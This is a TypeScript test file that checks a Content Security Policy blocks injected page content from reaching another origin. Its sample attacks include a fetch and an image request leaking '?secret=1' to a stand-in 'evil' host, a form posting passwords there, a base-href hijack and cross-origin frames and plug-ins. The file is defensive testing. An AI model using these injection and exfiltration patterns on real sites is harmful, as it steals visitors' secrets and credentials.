/** A text that has become part of a page wants something of another origin, or sends it something. */
import { inPage, testRefusals } from './support/attempts';

testRefusals('other origins', [
  {
    what: 'a frame of another origin',
    attack: inPage((evil) => {
      const frame = document.createElement('iframe');
      frame.src = `${evil}/frame`;
      document.body.append(frame);
    }),
    stoppedBy: /^frame-src$/,
  },
  {
    what: 'what it has read, in a request',
    attack: inPage((evil) => fetch(`${evil}/?secret=1`).catch(() => undefined)),
    stoppedBy: /^connect-src$/,
  },
  {
    what: 'what it has read, in the address of a picture',
    attack: inPage((evil) => {
      new Image().src = `${evil}/?secret=1`;
    }),
    stoppedBy: /^img-src$/,
  },
  {
    what: 'a form that sends passwords elsewhere',
    attack: inPage((evil) => {
      const form = document.createElement('form');
      form.action = `${evil}/passwords`;
      document.body.append(form);
      form.submit();
    }),
    stoppedBy: /^form-action$/,
  },
  {
    what: 'another base for the page’s addresses',
    attack: inPage((evil) => {
      const base = document.createElement('base');
      base.href = evil;
      document.head.append(base);
    }),
    stoppedBy: /^base-uri$/,
  },
  {
    what: 'a plug-in',
    attack: inPage((evil) => {
      const object = document.createElement('object');
      object.data = `${evil}/x.swf`;
      document.body.append(object);
    }),
    stoppedBy: /^(object-src|require-trusted-types-for)$/,
  },
]);
